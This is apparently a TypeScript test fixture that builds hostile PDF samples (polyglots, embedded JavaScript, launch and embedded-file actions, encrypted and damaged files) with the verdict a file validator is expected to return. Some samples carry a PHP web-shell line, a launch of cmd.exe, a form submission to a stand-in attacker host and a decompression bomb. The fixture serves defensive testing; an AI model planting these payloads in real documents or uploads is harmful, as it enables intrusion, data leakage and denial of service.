import { deflateSync } from 'node:zlib'
import { asPdf, join, zip } from './kit.ts'
import * as D from './pdf.ts'
import type { HostileFile } from './polyglots.ts'

const active = (object: string) => asPdf(D.pdf([object]))
const html = '<html><script>alert(1)</script></html>'
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const good = D.pdf()

/** The table of places says that the fifth object stands inside the picture. */
const hidden = D.pdf([D.stream('/Subtype /Image', `\n9 0 obj\n${'<< /S /Named >>'}\nendobj\n`)])

export const hostilePdfs: Readonly<Record<string, HostileFile>> = {
  'PDF with a ZIP behind its end': [asPdf(join(good, zip('a'))), 'CONTENT_AMBIGUOUS'],
  'PDF whose end is the remark of a ZIP': [asPdf(endInRemark()), 'CONTENT_AMBIGUOUS'],
  'PDF with a ZIP in a stream': [asPdf(D.pdf([D.stream('', zip('a'))])), 'CONTENT_AMBIGUOUS'],
  'PDF with a RAR in a stream': [asPdf(D.pdf([D.stream('', 'Rar!\x1a\x07\0x')])), 'CONTENT_AMBIGUOUS'],
  'PDF with HTML before it': [asPdf(join(html, good)), 'CONTENT_NOT_AS_DECLARED'],
  'PDF with HTML behind it': [asPdf(join(good, html)), 'CONTENT_AMBIGUOUS'],
  'PDF with HTML in a remark': [asPdf(D.pdf([`<< >>\n% ${html}`])), 'CONTENT_AMBIGUOUS'],
  'PDF with PHP in a stream': [asPdf(D.pdf([D.stream('', '<?php system($_GET[0]);')])), 'CONTENT_AMBIGUOUS'],
  'PDF with a line end before it': [asPdf(join('\n', good)), 'CONTENT_NOT_AS_DECLARED'],
  'PDF with a byte order mark': [asPdf(join([0xef, 0xbb, 0xbf], good)), 'CONTENT_NOT_AS_DECLARED'],
  'PDF that is a tar archive too': [asPdf(tar()), 'CONTENT_AMBIGUOUS'],
  'PDF that is a disk image too': [asPdf(disk()), 'CONTENT_AMBIGUOUS'],
  'PDF with a script': [active(script), 'CONTENT_ACTIVE'],
  'PDF with a script by a name in numbers': [active('<< /S /J#61vaScr#69pt /J#53 (x) >>'), 'CONTENT_ACTIVE'],
  'PDF with a script in a form field': [active('<< /AA << /K 9 0 R >> >>'), 'CONTENT_ACTIVE'],
  'PDF with a short script': [active('<< /JS (x) >>'), 'CONTENT_ACTIVE'],
  'PDF with an action at its opening': [active('<< /OpenAction << /S /Named >> >>'), 'CONTENT_ACTIVE'],
  'PDF with an action at its opening elsewhere': [active('<< /OpenAction 9 0 R >>'), 'CONTENT_ACTIVE'],
  'PDF that starts a program': [active('<< /S /Launch /F (cmd.exe) >>'), 'CONTENT_ACTIVE'],
  'PDF with a file inside': [active('<< /Type /EmbeddedFile >>'), 'CONTENT_ACTIVE'],
  'PDF with a list of files inside': [active('<< /Names << /EmbeddedFiles 9 0 R >> >>'), 'CONTENT_ACTIVE'],
  'PDF with a specification of a file inside': [
    active('<< /Type /Filespec /EF << /F 9 0 R >> >>'),
    'CONTENT_ACTIVE',
  ],
  'PDF that opens another': [active('<< /S /GoToR /F (\\\\\\\\server\\\\share) >>'), 'CONTENT_ACTIVE'],
  'PDF with a film': [active('<< /Subtype /RichMedia >>'), 'CONTENT_ACTIVE'],
  'PDF that sends a form': [active('<< /S /SubmitForm /F (https://evil.example) >>'), 'CONTENT_ACTIVE'],
  'PDF with an XFA form': [active('<< /AcroForm << /XFA 9 0 R >> >>'), 'CONTENT_ACTIVE'],
  'PDF with a script in its update': [asPdf(D.updated(good, [script])), 'CONTENT_ACTIVE'],
  'PDF with a script in a packed stream': [asPdf(D.modern(`1 0 2 9 ${script}`)), 'CONTENT_ACTIVE'],
  'PDF with a script in a packed stream that does not say what it is': [
    asPdf(D.pdf([D.packedStream('/N 1 /First 4', `1 0 ${script}`)])),
    'CONTENT_ACTIVE',
  ],
  'PDF with objects packed twice': [
    asPdf(D.pdf([D.stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', '00>')])),
    'CONTENT_DAMAGED',
  ],
  'PDF with objects packed in a rare way': [
    asPdf(D.pdf([D.stream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', 'x')])),
    'CONTENT_DAMAGED',
  ],
  'PDF whose packed objects are a bomb': [
    asPdf(D.pdf([D.stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb())])),
    'CONTENT_DAMAGED',
  ],
  'PDF with an object inside a stream': [asPdf(hidden), 'CONTENT_DAMAGED'],
  'PDF with a script inside a stream': [asPdf(D.pdf([D.stream('', script)])), 'CONTENT_ACTIVE'],
  'PDF with a password': [asPdf(D.pdf([], { trailer: '/Root 1 0 R /Encrypt 9 0 R' })), 'CONTENT_ENCRYPTED'],
  'PDF with a password in a packed table': [
    asPdf(D.modern('1 0 2 9 << >> << /Encrypt 9 0 R >>')),
    'CONTENT_ENCRYPTED',
  ],
  'PDF that ends in the middle': [asPdf(good.slice(0, good.length >> 1)), 'CONTENT_DAMAGED'],
  'PDF without its end': [asPdf(good.slice(0, -6)), 'CONTENT_DAMAGED'],
  'PDF whose table is elsewhere': [asPdf(D.pdf([], { end: 'startxref\n3\n%%EOF' })), 'CONTENT_DAMAGED'],
  'PDF of an unknown version': [asPdf(D.pdf([], { version: '9.9' })), 'CONTENT_DAMAGED'],
  'PDF that is nothing but a header': [asPdf(join('%PDF-1.4\n')), 'CONTENT_DAMAGED'],
  'PDF with a stream that never ends': [asPdf(D.pdf(['<< /Length 9 >>\nstream\nx'])), 'CONTENT_DAMAGED'],
}

/** Both readers find what they look for at the end. */
function endInRemark() {
  const body = good.subarray(0, new TextDecoder('latin1').decode(good).lastIndexOf('startxref'))
  const archive = zip(
    'a',
    good.subarray(body.length).reduce((text, byte) => text + String.fromCharCode(byte), '\n'),
  )
  return join(body, archive)
}

/** Its header is the name of the first file of the archive. */
function tar() {
  const whole = D.pdf([], { version: `1.4\n%${'x'.repeat(400)}` })
  whole.set(join('ustar'), 257)
  return whole
}

/** The mark stands where a disk image has it, counted from the beginning of the whole file. */
function disk() {
  const whole = D.pdf([D.stream('', new Uint8Array(0x8800).fill(32))])
  whole.set(join('CD001'), 0x8001)
  return whole
}

function bomb() {
  return deflateSync(new Uint8Array(17 * 1024 * 1024))
}
